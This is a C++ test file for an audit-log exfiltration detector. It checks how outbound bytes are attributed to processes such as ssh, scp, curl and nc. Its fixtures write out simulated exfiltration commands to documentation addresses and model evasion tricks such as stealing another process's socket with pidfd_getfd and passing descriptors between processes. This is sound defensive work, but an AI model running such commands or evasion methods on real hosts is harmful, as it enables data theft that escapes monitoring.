#include "host_with_cron.hpp"

/// Bytes on numbers whose opening is not in the log: opened before it begins, by a call that no
/// rule asks for, or received from another process.
namespace auexfil::test {
namespace {

constexpr std::int64_t kMega = 1'000'000;

/// In kB: the host's daemons write a few bytes of their own.
std::uint64_t unattributed(const Log& log) {
  return tell_host(log.text()).builder->unattributed().total() / 1000;
}

/// The log has every socket that is made, of daemons and of jobs.
void show_sockets(CronHost& log) {
  log.there(650, 1, "/usr/sbin/exporter");
  log.there(651, 1, "/usr/sbin/job", 0, 9);
  for (const int pid : {650, 651}) {
    log.tcp(pid, 9, "192.0.2.1", 9100);
    log.close(pid, 9);
  }
}

/// An ssh that was there before the log began, known by its title.
CronHost old_ssh(int fd = 3) {
  CronHost log;
  log.there(700, 1, "/usr/bin/ssh");
  log.who(700).ses = 5;
  for (int i = 0; i < 4; ++i) {
    log.write(700, fd, 60 * kMega);
  }
  return log;
}

}  // namespace

TEST_CASE("unseen: a tool that connected before the log began") {
  const facts::Fact fact = one(old_ssh());
  CHECK(fact.tool == "ssh");
  CHECK(fact.bytes_out == 240U * kMega);
  CHECK(fact.basis == transfer::Basis::estimated);
  CHECK(fact.automation != transfer::Verdict::attended);
}

TEST_CASE("unseen: what is no socket of a tool, and is told by coverage") {
  SECTION("standard output") {
    const CronHost log = old_ssh(1);
    CHECK(tell(log).empty());
    CHECK(unattributed(log) == 240'000);
  }
  SECTION("pwrite: only files take it") {
    CronHost log;
    log.there(700, 1, "/usr/bin/ssh");
    log.call(700, "pwrite64", 200 * kMega, {3, 0x7f, 0});
    log.write(700, 3, 200 * kMega);
    CHECK(tell(log).empty());
    CHECK(unattributed(log) == 0);
  }
  SECTION("a program that no entry describes") {
    CronHost log;
    log.there(700, 1, "/usr/bin/python3");
    log.write(700, 3, 200 * kMega);
    CHECK(tell(log).empty());
    CHECK(unattributed(log) == 200'000);
  }
  SECTION("what a shell that was there before hands down, over an exec") {
    CronHost log;
    show_sockets(log);
    log.there(690, 1, "/usr/bin/bash");
    log.run(690, 700, "/usr/bin/gzip", {"gzip", "-c", "/srv/db"});
    log.write(700, 1, 200 * kMega);
    log.run(690, 701, "/usr/bin/dd", {"dd", "of=/dev/fd/7"});
    log.write(701, 7, 100 * kMega);
    CHECK(unattributed(log) == 300'000);
  }
  SECTION("a daemon that was there before hands nothing down") {
    CronHost log;
    show_sockets(log);
    const int gzip = log.tool("/usr/bin/gzip", {"gzip", "/srv/db"});
    log.write(gzip, 4, 200 * kMega);
    CHECK(unattributed(log) == 0);
  }
  SECTION("a person's program counts nothing") {
    CronHost log;
    const int shell = log.person(CronHost::kSshd, 500, 5);
    log.write(shell, 3, 200 * kMega);
    CHECK(unattributed(log) == 0);
  }
}

TEST_CASE("unseen: a call that only sockets take makes a transfer to an unknown peer") {
  const std::string call = GENERATE("sendto", "sendmsg");
  CronHost log;
  log.there(700, 1, "/usr/bin/python3");
  log.call(700, call, 200 * kMega, {3, 0x7f, 200 * kMega});
  const facts::Fact fact = one(log);
  CHECK(fact.tool == "other");
  REQUIRE(fact.destinations.size() == 1);
  CHECK_FALSE(fact.destinations[0].address);
  CHECK(sum(fact) == "out 200000000 at-least");
  CHECK(tell_host(log.text()).builder->unaddressed().total() == 200U * kMega);
}

TEST_CASE("unseen: daemons' talk over local sockets is no transfer") {
  CronHost log;
  log.there(700, 1, "/usr/bin/dbus-daemon");
  for (int i = 0; i < 100; ++i) {
    log.call(700, "sendmsg", 300, {3, 0x7f, 0});
  }
  CHECK(tell(log).empty());
  CHECK(unattributed(log) == 30);
}

TEST_CASE("unseen: an address of a local socket takes the bytes out") {
  CronHost log;
  log.there(700, 1, "/usr/bin/python3");
  log.call(700, "sendto", 200 * kMega, {3, 0x7f, 9}, {"SOCKADDR saddr=" + unix_saddr("/run/x")});
  log.write(700, 3, 200 * kMega);
  CHECK(tell(log).empty());
  CHECK(unattributed(log) == 0);
}

TEST_CASE("unseen: EISCONN tells the peer late, a new connect takes another number") {
  CronHost log;
  log.there(700, 1, "/usr/bin/ssh");
  log.write(700, 3, 60 * kMega);
  SECTION("the same connection") {
    log.connect(700, 3, kDrop, 22, -106);
    const facts::Fact fact = one(log);
    REQUIRE(fact.destinations.size() == 1);
    CHECK(fact.destinations[0].address == audit::IpAddress::parse(kDrop));
    CHECK(fact.bytes_out == 60U * kMega);
  }
  SECTION("another") {
    log.connect(700, 3, kDrop, 22);
    log.write(700, 3, 5);
    const auto facts = tell(log);
    REQUIRE(facts.size() == 1);
    REQUIRE(destination(facts[0], kDrop) != nullptr);
    CHECK(destination(facts[0], kDrop)->bytes_out == 5);
    CHECK(unattributed(log) == 60'000);  // no open(2) in the log: it may have been a file
  }
}

TEST_CASE(
    "unseen: where sockets are audited, the number of a program that began in the log is a file") {
  CronHost log;
  const int nc = log.tool("/usr/bin/nc", {"nc", "203.0.113.9", "9000"});
  log.tcp(nc, 3, kDrop, 9000);
  log.write(nc, 3, 5);
  log.done(nc);
  const int scp = log.tool("/usr/bin/curl", {"curl", "-o", "f", "https://203.0.113.9/f"});
  log.write(scp, 5, 200 * kMega);
  log.exit(scp);
  CHECK(to(tell(log), kDrop).size() == 1);
  CHECK(unattributed(log) == 0);
}

TEST_CASE("unseen: where socket(2) is not audited, it may be one") {
  const auto no_sockets = [](const Called& call) {
    return call.name != "socket" && call.name != "connect";
  };
  CronHost log("", no_sockets);
  const int python = log.tool("/usr/bin/python3", {"python3", "up.py"});
  log.tcp(python, 3, kDrop, 443);
  log.write(python, 3, 180 * kMega);
  log.done(python);
  CHECK(unattributed(log) == 180'000);
}

namespace {

/// scp and its ssh, both there before the log began. Forks are in the log.
CronHost old_scp() {
  CronHost log;
  log.there(700, 690, "/usr/bin/scp", 0, 5);
  log.who(700).title = {"scp", "-q", "f", "drop@203.0.113.9:up/"};
  log.there(701, 700, "/usr/bin/ssh", 0, 5);
  log.who(701).title = {"/usr/bin/ssh", "-x", "-s", "--", "203.0.113.9", "sftp"};
  return log;
}

/// What all transfers sent, in MB.
std::uint64_t all_out(const CronHost& log) {
  std::uint64_t bytes = 0;
  for (const facts::Fact& fact : tell(log)) {
    bytes += fact.bytes_out.value_or(0);
  }
  return bytes / kMega;
}

}  // namespace

TEST_CASE("unseen: a parent that speaks later takes those in that named it before") {
  CronHost log = old_scp();
  log.tcp(701, 3, kDrop, 22);
  SECTION("the child speaks first") {
    log.write(701, 3, 100 * kMega);
    log.write(700, 5, 100 * kMega);
  }
  SECTION("the parent speaks first") {
    log.write(700, 5, 100 * kMega);
    log.write(701, 3, 100 * kMega);
  }
  const facts::Fact fact = one(log);
  CHECK(fact.tool == "scp");
  CHECK(fact.process.pid == 700);
  CHECK(fact.bytes_out == 100U * kMega);
  CHECK(unattributed(log) == 0);
}

TEST_CASE("unseen: a child that has not run its own program yet is the parent's") {
  CronHost log = old_scp();
  log.who(701) = log.who(700);
  log.who(701).ppid = 700;
  log.close(701, 9);
  log.write(700, 5, 100 * kMega);
  log.who(701).title.clear();
  log.exec(701, "/usr/bin/ssh", CronHost::sftp_argv("203.0.113.9"));
  log.tcp(701, 3, kDrop, 22);
  log.write(701, 3, 100 * kMega);
  const facts::Fact fact = one(log);
  CHECK(fact.tool == "scp");
  CHECK(fact.process.pid == 700);
  CHECK(fact.bytes_out == 100U * kMega);
}

TEST_CASE("unseen: two that name each other as parent end, whoever wrote the log") {
  CronHost log;
  log.there(700, 701, "/usr/bin/scp", 0, 5);
  log.there(701, 700, "/usr/bin/ssh", 0, 5);
  log.write(700, 3, 7);
  log.write(701, 3, 100 * kMega);
  log.write(700, 3, 7);
  log.who(700).ppid = 702;
  log.there(702, 701, "/usr/bin/ssh", 0, 5);
  log.write(702, 3, 7);
  log.write(700, 3, 7);
  CHECK(all_out(log) + unattributed(log) / 1000 == 100);
}

TEST_CASE(
    "unseen: where forks are not audited, a number is believed to be the parent's for a while") {
  CronHost log("", [](const Called& call) { return call.name != "clone"; });
  log.there(701, 700, "/usr/bin/ssh", 0, 5);
  log.who(701).title = {"ssh", "-s", "--", "203.0.113.9", "sftp"};
  log.there(700, 690, "/usr/bin/scp", 0, 5);
  log.who(700).title = {"scp", "-q", "f", "drop@203.0.113.9:up/"};
  log.tcp(701, 3, kDrop, 22);
  const bool soon = GENERATE(true, false);
  log.pass(soon ? 30'000 : 90'000);
  log.write(700, 5, 7);
  log.write(701, 3, 100 * kMega);
  CHECK(one(log).tool == (soon ? "scp" : "ssh"));
}

TEST_CASE("unseen: what feeds a helper is told once, whatever stands between") {
  CronHost log = old_scp();
  log.there(702, 701, "/usr/bin/ssh", 0, 5);
  log.who(702).title = {"ssh", "-W", "[203.0.113.9]:22", "drop@203.0.113.8"};
  log.write(700, 5, 100 * kMega);
  log.write(701, 4, 100 * kMega);  // to its ProxyCommand
  log.write(702, 3, 100 * kMega);
  CHECK(all_out(log) == 100);
  CHECK(unattributed(log) == 0);
  SECTION("a number that takes more than the helper sends may lead elsewhere") {
    log.write(700, 6, 300 * kMega);
    CHECK(all_out(log) == 100);
    CHECK(unattributed(log) == 300'000);
  }
}

TEST_CASE("unseen: ssh's standard output on another number is no connection") {
  CronHost log;
  log.there(700, 1, "/usr/bin/ssh");
  log.who(700).title = {"ssh", "drop@203.0.113.9", "make-backup"};
  log.write(700, 3, 996);
  SECTION("the copy is in the log") {
    log.call(700, "dup", 5, {1});
  }
  SECTION("the copy is not in the log") {}
  log.write(700, 5, 200 * kMega);
  CHECK(all_out(log) == 0);
  CHECK(unattributed(log) >= 200'000);
}

TEST_CASE("unseen: a standard number that is written to is not taken for a file") {
  CronHost log;
  log.udp(CronHost::kCron, 7);  // daemons' sockets are audited: other numbers are files
  log.call(CronHost::kSshd, "accept", 5, {3, 0x7f, 0x7f});
  log.fork(CronHost::kSshd, 640);
  log.exec(640, "/usr/sbin/sshd", {"sshd", "-R"});
  log.call(640, "dup", 4, {0});
  log.write(640, 4, 200 * kMega);
  CHECK(all_out(log) + unattributed(log) / 1000 == 200);
}

TEST_CASE("unseen: of two hosts in a command line the one that is seen is not the other") {
  CronHost log;
  log.there(700, 1, "/usr/bin/curl");
  log.who(700).title = {"curl", "-T", "a", "ftp://203.0.113.7/", "-T", "b", "ftp://203.0.113.9/"};
  log.open(CronHost::kCron, 9, "/x");  // so that a number without an opening is no file
  log.write(700, 6, 200 * kMega);
  log.tcp(700, 7, kDrop, 21);
  log.write(700, 7, 53);
  const auto facts = tell(log);
  REQUIRE(facts.size() == 1);
  REQUIRE(destination(facts[0], kDrop) != nullptr);
  CHECK(destination(facts[0], kDrop)->bytes_out == 53);
  CHECK(facts[0].bytes_out.value_or(0) >= 200U * kMega);
}

TEST_CASE("pidfd_getfd: the taker's bytes go to the taken socket's peer, as its own") {
  CronHost log;
  const int curl = log.tool("/usr/bin/curl", {"curl", "-T", "f", "https://203.0.113.9/"});
  log.tcp(curl, 5, kDrop, 443);
  log.write(curl, 5, 1000);
  const int thief = log.daemon(790, "/opt/steal");
  const bool by_clone = GENERATE(false, true);
  CAPTURE(by_clone);
  if (!by_clone) {
    log.call(thief, "pidfd_open", 3, {static_cast<std::uint64_t>(curl), 0});
    log.call(thief, "pidfd_getfd", 6, {3, 5, 0});
  } else {
    log.fork(thief, 795, 0x1200011 | 0x1000);
    log.tcp(795, 5, kDrop, 443);
    log.call(thief, "pidfd_getfd", 6, {9, 5, 0});
  }
  log.write(thief, 6, 180 * kMega);
  bool found = false;
  for (const facts::Fact& fact : tell(log)) {
    if (fact.process.exe == "/opt/steal" && fact.bytes_out.value_or(0) >= 180U * kMega) {
      found = true;
      CHECK(destination(fact, kDrop) != nullptr);
      CHECK((fact.basis != transfer::Basis::measured || !by_clone));
    }
  }
  CHECK(found);
}

TEST_CASE("MSG_FASTOPEN: the sendto that began the connection names its peer") {
  CronHost log;
  const int curl = log.tool("/usr/bin/curl", {"curl", "-T", "f", "https://203.0.113.9/"});
  log.socket(curl, 5);
  log.call(curl, "sendto", -115, {5, 0x7f, 500, 0x20000000},
           {"SOCKADDR saddr=" + saddr(kDrop, 443)});
  log.write(curl, 5, 180 * kMega);
  log.done(curl, 5);
  const facts::Fact fact = one(log);
  REQUIRE(destination(fact, kDrop) != nullptr);
  CHECK(destination(fact, kDrop)->port == 443);
  CHECK(fact.bytes_out == 180U * kMega);
}

TEST_CASE("a connection that was given away has an unknown remainder, not none") {
  CronHost log;
  const int nc = log.tool("/usr/bin/nc", {"nc", "-F", "203.0.113.9", "22"});
  log.tcp(nc, 3, kDrop, 22);
  log.call(nc, "sendmsg", 1, {1, 0x7f, 0});
  log.exit(nc);
  const facts::Fact fact = one(log);
  CHECK_FALSE(fact.bytes_out);
  CHECK(has_note(fact, "passed"));
}

TEST_CASE("a stranger that received something and writes much is the likeliest carrier") {
  CronHost log;
  const int receiver = log.tool("/opt/relay", {"/opt/relay"});
  log.call(receiver, "socket", 3, {1, 1, 0});
  const int nc = log.tool("/usr/bin/nc", {"nc", "-F", "203.0.113.9", "22"});
  log.tcp(nc, 3, kDrop, 22);
  log.call(nc, "sendmsg", 1, {1, 0x7f, 0});
  log.exit(nc);
  log.call(receiver, "recvmsg", 1, {3, 0x7f, 0});
  log.write(receiver, 9, 150 * kMega);
  const auto facts = to(tell(log), kDrop);
  REQUIRE(facts.size() == 1);
  CHECK(facts[0].bytes_out == 150U * kMega);
  CHECK(facts[0].basis == transfer::Basis::estimated);
  CHECK(has_note(facts[0], "nc (pid"));
  CHECK(has_note(facts[0], "relay (pid"));
}

TEST_CASE("socketcall without its arguments: bytes go to the latest connection, as an estimate") {
  CronHost log;
  log.arch = 0x40000003;
  const int old = log.tool("/usr/bin/up32", {"up32"});
  log.call(old, "socketcall", 3, {1, 0xff, 0});
  log.call(old, "socketcall", 0, {3, 0xff, 0}, {"SOCKADDR saddr=" + saddr(kDrop, 9000)});
  SECTION("by socketcall") {
    log.call(old, "socketcall", 120 * kMega, {9, 0xff, 0});
  }
  SECTION("by write") {
    log.write(old, 3, 120 * kMega);
  }
  const facts::Fact fact = one(log);
  REQUIRE(destination(fact, kDrop) != nullptr);
  CHECK(fact.bytes_out == 120U * kMega);
  CHECK(fact.basis == transfer::Basis::estimated);
}

}  // namespace auexfil::test
